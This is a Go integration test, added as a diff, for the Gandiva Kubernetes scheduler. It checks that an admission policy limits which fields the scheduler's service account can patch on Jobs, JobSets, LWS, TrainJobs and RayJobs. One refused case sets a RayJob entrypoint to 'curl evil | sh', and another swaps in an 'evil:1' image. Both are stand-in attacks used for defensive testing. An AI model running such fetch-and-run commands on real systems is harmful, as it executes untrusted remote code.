@@ -1,0 +1,349 @@
+// Package conditions tests, on the local control plane, what Gandiva
+// writes on the workload kinds' objects (its status conditions and
+// annotations beside their controllers' writes) and the admission policy
+// that holds the scheduler's account to those writes (deploy/base/rbac.yaml).
+// A package of its own so that these tests run beside internal/kube's.
+package conditions
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
+	"k8s.io/apimachinery/pkg/runtime/schema"
+	"k8s.io/apimachinery/pkg/types"
+	"k8s.io/client-go/dynamic"
+	"sigs.k8s.io/yaml"
+
+	"github.com/gandiva-sched/gandiva/internal/kube"
+	"github.com/gandiva-sched/gandiva/internal/kube/cplane"
+	"github.com/gandiva-sched/gandiva/internal/kube/kubetest"
+	wl "github.com/gandiva-sched/gandiva/internal/kube/workloads"
+)
+
+const (
+	ns = "team-a"
+	// sa is the scheduler's service account, as the API server names it
+	sa = "system:serviceaccount:gandiva-system:gandiva"
+)
+
+var (
+	jobGVR    = schema.GroupVersionResource{Group: "batch", Version: "v1", Resource: "jobs"}
+	jobSetGVR = wl.JobSetGVR
+	lwsGVR    = wl.LWSGVR
+	trainGVR  = wl.TrainJobGVR
+	rayGVR    = wl.RayJobGVR
+	crdGVR    = wl.CRDGVR
+)
+
+// resources maps the kinds of deploy/base/rbac.yaml to their resources.
+var resources = map[string]schema.GroupVersionResource{
+	"ServiceAccount":                   {Version: "v1", Resource: "serviceaccounts"},
+	"ClusterRole":                      {Group: "rbac.authorization.k8s.io", Version: "v1", Resource: "clusterroles"},
+	"ClusterRoleBinding":               {Group: "rbac.authorization.k8s.io", Version: "v1", Resource: "clusterrolebindings"},
+	"Role":                             {Group: "rbac.authorization.k8s.io", Version: "v1", Resource: "roles"},
+	"RoleBinding":                      {Group: "rbac.authorization.k8s.io", Version: "v1", Resource: "rolebindings"},
+	"ValidatingAdmissionPolicy":        {Group: "admissionregistration.k8s.io", Version: "v1", Resource: "validatingadmissionpolicies"},
+	"ValidatingAdmissionPolicyBinding": {Group: "admissionregistration.k8s.io", Version: "v1", Resource: "validatingadmissionpolicybindings"},
+	"CustomResourceDefinition":         crdGVR,
+}
+
+// repo is the repository's root.
+const repo = "../../.."
+
+// docs reads the YAML documents of a file of the repository.
+func docs(t *testing.T, file string) []*unstructured.Unstructured {
+	t.Helper()
+	data, err := os.ReadFile(filepath.Join(repo, file))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var out []*unstructured.Unstructured
+	for _, doc := range bytes.Split(data, []byte("\n---")) {
+		m := map[string]any{}
+		if err := yaml.Unmarshal(doc, &m); err != nil {
+			t.Fatalf("%s: %v", file, err)
+		}
+		if len(m) > 0 {
+			out = append(out, &unstructured.Unstructured{Object: m})
+		}
+	}
+	return out
+}
+
+// create creates the objects of files (a CRD: once established).
+func create(t *testing.T, dc dynamic.Interface, files ...string) {
+	t.Helper()
+	ctx := context.Background()
+	for _, f := range files {
+		for _, u := range docs(t, f) {
+			r, ok := resources[u.GetKind()]
+			if !ok {
+				t.Fatalf("%s: kind %s not known to this test", f, u.GetKind())
+			}
+			var err error
+			if u.GetNamespace() != "" {
+				_, err = dc.Resource(r).Namespace(u.GetNamespace()).Create(ctx, u, metav1.CreateOptions{})
+			} else {
+				_, err = dc.Resource(r).Create(ctx, u, metav1.CreateOptions{})
+			}
+			if err != nil && !apierrors.IsAlreadyExists(err) {
+				t.Fatalf("%s: creating %s %s: %v", f, u.GetKind(), u.GetName(), err)
+			}
+			if u.GetKind() != "CustomResourceDefinition" {
+				continue
+			}
+			kubetest.WaitCRDEstablished(t, dc, u.GetName(), 60*time.Second)
+		}
+	}
+}
+
+// obj is an object from its YAML.
+func obj(t *testing.T, s string) *unstructured.Unstructured {
+	t.Helper()
+	m := map[string]any{}
+	if err := yaml.Unmarshal([]byte(s), &m); err != nil {
+		t.Fatal(err)
+	}
+	return &unstructured.Unstructured{Object: m}
+}
+
+// containers is a pod spec's schedulerName and containers at indent.
+func containers(indent int) string {
+	pad := "\n" + strings.Repeat(" ", indent)
+	return pad + "schedulerName: gandiva" + pad + "restartPolicy: Never" + pad + "containers:" + pad + "- name: main" + pad + "  image: trainer:1"
+}
+
+// The workloads the policy test patches: a Job, an elastic Job, a JobSet,
+// a LeaderWorkerSet, a TrainJob and a RayJob, suspended where they can be.
+func workloads(t *testing.T) map[string]*unstructured.Unstructured {
+	return map[string]*unstructured.Unstructured{
+		"job": obj(t, `apiVersion: batch/v1
+kind: Job
+metadata: {name: j, namespace: team-a}
+spec:
+  suspend: true
+  parallelism: 2
+  completions: 2
+  template:
+    spec:`+containers(6)),
+		"elastic": obj(t, `apiVersion: batch/v1
+kind: Job
+metadata: {name: e, namespace: team-a, annotations: {gandiva.io/min-gpus: "1", gandiva.io/max-gpus: "4"}}
+spec:
+  suspend: true
+  parallelism: 2
+  template:
+    spec:`+containers(6)),
+		"jobset": obj(t, `apiVersion: jobset.x-k8s.io/v1alpha2
+kind: JobSet
+metadata: {name: js, namespace: team-a}
+spec:
+  suspend: true
+  replicatedJobs:
+  - name: workers
+    replicas: 2
+    template:
+      spec:
+        template:
+          spec:`+containers(12)),
+		"lws": obj(t, `apiVersion: leaderworkerset.x-k8s.io/v1
+kind: LeaderWorkerSet
+metadata: {name: lws, namespace: team-a}
+spec:
+  replicas: 1
+  leaderWorkerTemplate:
+    size: 2
+    workerTemplate:
+      spec:`+containers(8)),
+		"trainjob": obj(t, `apiVersion: trainer.kubeflow.org/v1alpha1
+kind: TrainJob
+metadata: {name: tj, namespace: team-a}
+spec:
+  suspend: true
+  runtimeRef: {name: torch-distributed}
+  trainer: {numNodes: 2}`),
+		"rayjob": obj(t, `apiVersion: ray.io/v1
+kind: RayJob
+metadata: {name: rj, namespace: team-a}
+spec:
+  suspend: true
+  entrypoint: python train.py
+  shutdownAfterJobFinishes: true
+  rayClusterSpec:
+    headGroupSpec:
+      rayStartParams: {}
+      template:
+        spec:
+          containers:
+          - name: head
+            image: ray:1`),
+	}
+}
+
+// deploy/base/rbac.yaml's policy gandiva-scheduler-workloads against the
+// scheduler's account (its ClusterRole's rights: patch of the kinds and
+// of their status), with the JobSet, LWS, Trainer and KubeRay CRDs
+// installed: it may suspend and resume, write gandiva.io/state,
+// placement and reason, resize an elastic Job, and write its own status
+// conditions; it may not change a JobSet's pod template (while
+// suspended), an LWS's leaderWorkerTemplate, a Job's parallelism (not
+// elastic), a TrainJob's or RayJob's spec, a label, an owner reference,
+// another annotation, another status field or condition. Another account
+// (an admin here; the controllers are others too) is not held by it.
+func TestWorkloadPolicy(t *testing.T) {
+	t.Parallel()
+	p := kubetest.Start(t, cplane.Options{Users: []cplane.User{
+		{Name: sa, Groups: []string{"system:serviceaccounts", "system:serviceaccounts:gandiva-system"}}}})
+	cs := kubetest.Client(t, p)
+	dc := kubetest.Dynamic(t, p)
+	sdc, err := dynamic.NewForConfig(p.UserConfig(sa))
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx := context.Background()
+	kubetest.Namespace(t, cs, "gandiva-system")
+	kubetest.Namespace(t, cs, ns)
+	create(t, dc,
+		"third_party/jobset/config/crd/jobset.x-k8s.io_jobsets.yaml",
+		"third_party/lws/config/crd/leaderworkerset.x-k8s.io_leaderworkersets.yaml",
+		"third_party/trainer/config/crd/trainer.kubeflow.org_trainjobs.yaml",
+		"third_party/kuberay/ray-operator/config/crd/ray.io_rayjobs.yaml",
+		"deploy/base/rbac.yaml")
+	gvr := map[string]schema.GroupVersionResource{"job": jobGVR, "elastic": jobGVR, "jobset": jobSetGVR, "lws": lwsGVR, "trainjob": trainGVR, "rayjob": rayGVR}
+	ws := workloads(t)
+	for k, u := range ws {
+		if _, err := dc.Resource(gvr[k]).Namespace(ns).Create(ctx, u, metav1.CreateOptions{}); err != nil {
+			t.Fatalf("creating the %s: %v", k, err)
+		}
+	}
+	get := func(k string) *unstructured.Unstructured {
+		u, err := dc.Resource(gvr[k]).Namespace(ns).Get(ctx, ws[k].GetName(), metav1.GetOptions{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return u
+	}
+	dry := metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}}
+	patch := func(c dynamic.Interface, k string, pt types.PatchType, body any, sub ...string) error {
+		b, err := json.Marshal(body)
+		if err != nil {
+			t.Fatal(err)
+		}
+		_, err = c.Resource(gvr[k]).Namespace(ns).Patch(ctx, ws[k].GetName(), pt, b, dry, sub...)
+		return err
+	}
+	const (
+		specMsg   = "nothing of a workload's spec"
+		metaMsg   = "labels, owners or finalizers"
+		annMsg    = "no annotation of a workload"
+		statusMsg = "nothing of a workload's status"
+	)
+	ann := func(kv ...string) map[string]any {
+		m := map[string]any{}
+		for i := 0; i+1 < len(kv); i += 2 {
+			m[kv[i]] = kv[i+1]
+		}
+		return map[string]any{"metadata": map[string]any{"annotations": m}}
+	}
+	// a JobSet's pod template changed (it is suspended: the JobSet webhook
+	// would allow it)
+	js := get("jobset")
+	rjs, _, _ := unstructured.NestedSlice(js.Object, "spec", "replicatedJobs")
+	pod := rjs[0].(map[string]any)["template"].(map[string]any)["spec"].(map[string]any)["template"].(map[string]any)["spec"].(map[string]any)
+	pod["containers"] = []any{map[string]any{"name": "main", "image": "evil:1"}}
+	templ := map[string]any{"spec": map[string]any{"replicatedJobs": rjs}}
+	ourCond := func(extra ...map[string]any) map[string]any {
+		conds := []any{map[string]any{"type": kube.CondScheduling, "status": "True", "reason": "Running", "message": "running on gpu-0=2",
+			"lastTransitionTime": "2026-01-02T03:04:05Z"}}
+		for _, e := range extra {
+			conds = append(conds, e)
+		}
+		return map[string]any{"status": map[string]any{"conditions": conds}}
+	}
+	foreign := map[string]any{"type": "Complete", "status": "True", "reason": "Done", "message": "faked", "lastTransitionTime": "2026-01-02T03:04:05Z"}
+	refused := []struct {
+		what, kind, want string
+		pt               types.PatchType
+		body             any
+		sub              []string
+	}{
+		{"a JobSet's pod template while suspended", "jobset", specMsg, types.MergePatchType, templ, nil},
+		{"an LWS's leaderWorkerTemplate", "lws", specMsg, types.MergePatchType, map[string]any{"spec": map[string]any{"leaderWorkerTemplate": map[string]any{"size": 3}}}, nil},
+		{"a Job's parallelism (not elastic)", "job", specMsg, types.MergePatchType, map[string]any{"spec": map[string]any{"parallelism": 3}}, nil},
+		// (its image is immutable; a suspended Job's scheduling fields are not)
+		{"a suspended Job's pod template (node selector)", "job", specMsg, types.MergePatchType, map[string]any{"spec": map[string]any{"template": map[string]any{
+			"spec": map[string]any{"nodeSelector": map[string]any{"pool": "other-team"}}}}}, nil},
+		{"a TrainJob's numNodes", "trainjob", specMsg, types.MergePatchType, map[string]any{"spec": map[string]any{"trainer": map[string]any{"numNodes": 4}}}, nil},
+		{"a RayJob's entrypoint", "rayjob", specMsg, types.MergePatchType, map[string]any{"spec": map[string]any{"entrypoint": "curl evil | sh"}}, nil},
+		{"a Job's label", "job", metaMsg, types.MergePatchType, map[string]any{"metadata": map[string]any{"labels": map[string]any{"x": "y"}}}, nil},
+		{"a JobSet's owner reference", "jobset", metaMsg, types.MergePatchType, map[string]any{"metadata": map[string]any{"ownerReferences": []any{
+			map[string]any{"apiVersion": "v1", "kind": "ConfigMap", "name": "x", "uid": "0a0a0a0a-0000-0000-0000-000000000000"}}}}, nil},
+		{"a Job's finalizer", "job", metaMsg, types.MergePatchType, map[string]any{"metadata": map[string]any{"finalizers": []any{"x.io/hold"}}}, nil},
+		{"another annotation of a Job", "job", annMsg, types.MergePatchType, ann("gandiva.io/preemptible", "false"), nil},
+		{"a checkpoint annotation of an LWS", "lws", annMsg, types.MergePatchType, ann("gandiva.io/checkpoint-time", "2026-01-02T03:04:05Z"), nil},
+		{"another annotation through a Job's status", "job", annMsg, types.StrategicMergePatchType, ann("user", "x"), []string{"status"}},
+		// (a Job's Complete would be refused by its validation first)
+		{"a foreign condition on a Job's status", "job", statusMsg, types.StrategicMergePatchType, ourCond(map[string]any{"type": "ExternalHold", "status": "True",
+			"reason": "X", "message": "faked", "lastTransitionTime": "2026-01-02T03:04:05Z"}), []string{"status"}},
+		{"a foreign condition on a JobSet's status", "jobset", statusMsg, types.MergePatchType, ourCond(foreign), []string{"status"}},
+		{"another status field of a JobSet", "jobset", statusMsg, types.MergePatchType, map[string]any{"status": map[string]any{"restarts": 3}}, []string{"status"}},
+		{"another status field of a TrainJob", "trainjob", statusMsg, types.MergePatchType, map[string]any{"status": map[string]any{
+			"jobsStatus": []any{map[string]any{"name": "x", "ready": 1, "succeeded": 0, "failed": 0, "active": 1, "suspended": 0}}}}, []string{"status"}},
+	}
+	for _, c := range refused {
+		kubetest.Eventually(t, 60*time.Second, c.what+" refused saying "+c.want, func() (bool, error) {
+			err := patch(sdc, c.kind, c.pt, c.body, c.sub...)
+			if err == nil {
+				return false, fmt.Errorf("%s was allowed", c.what)
+			}
+			return strings.Contains(err.Error(), c.want), err
+		})
+	}
+	gandiva := func(state string) map[string]any {
+		return map[string]any{kube.AnnState: state, kube.AnnPlacement: "gpu-0=2", kube.AnnReason: "Running: running on gpu-0=2 (policy p)"}
+	}
+	allowed := []struct {
+		what, kind string
+		pt         types.PatchType
+		body       any
+		sub        []string
+	}{
+		{"resuming a Job, with Gandiva's annotations", "job", types.MergePatchType,
+			map[string]any{"metadata": map[string]any{"annotations": gandiva("running")}, "spec": map[string]any{"suspend": false}}, nil},
+		{"resizing an elastic Job", "elastic", types.MergePatchType,
+			map[string]any{"metadata": map[string]any{"annotations": gandiva("running")}, "spec": map[string]any{"suspend": false, "parallelism": 4}}, nil},
+		{"resuming a JobSet", "jobset", types.MergePatchType,
+			map[string]any{"metadata": map[string]any{"annotations": gandiva("running")}, "spec": map[string]any{"suspend": false}}, nil},
+		{"resuming a TrainJob", "trainjob", types.MergePatchType, map[string]any{"spec": map[string]any{"suspend": false}}, nil},
+		{"resuming a RayJob", "rayjob", types.MergePatchType,
+			map[string]any{"metadata": map[string]any{"annotations": gandiva("running")}, "spec": map[string]any{"suspend": false}}, nil},
+		{"an LWS's annotations", "lws", types.MergePatchType, map[string]any{"metadata": map[string]any{"annotations": gandiva("running")}}, nil},
+		{"removing a Job's placement", "job", types.MergePatchType, map[string]any{"metadata": map[string]any{"annotations": map[string]any{kube.AnnPlacement: nil}}}, nil},
+		{"a Job's status: Gandiva's condition and reason", "job", types.StrategicMergePatchType,
+			map[string]any{"metadata": map[string]any{"annotations": map[string]any{kube.AnnReason: "Waiting: queued"}},
+				"status": ourCond()["status"]}, []string{"status"}},
+		{"a JobSet's status: Gandiva's condition", "jobset", types.MergePatchType, ourCond(), []string{"status"}},
+		{"an LWS's status: Gandiva's condition", "lws", types.MergePatchType, ourCond(), []string{"status"}},
+		{"a TrainJob's status: Gandiva's condition", "trainjob", types.MergePatchType, ourCond(), []string{"status"}},
+	}
+	for _, c := range allowed {
+		kubetest.Eventually(t, 60*time.Second, c.what+" allowed", func() (bool, error) {
+			err := patch(sdc, c.kind, c.pt, c.body, c.sub...)
+			return err == nil, err
+		})
+	}
+	// another account is not held: an admin changes the JobSet's template
+	if err := patch(dc, "jobset", types.MergePatchType, templ); err != nil {
+		t.Fatalf("an admin's change of the JobSet's template: %v", err)
+	}
+}
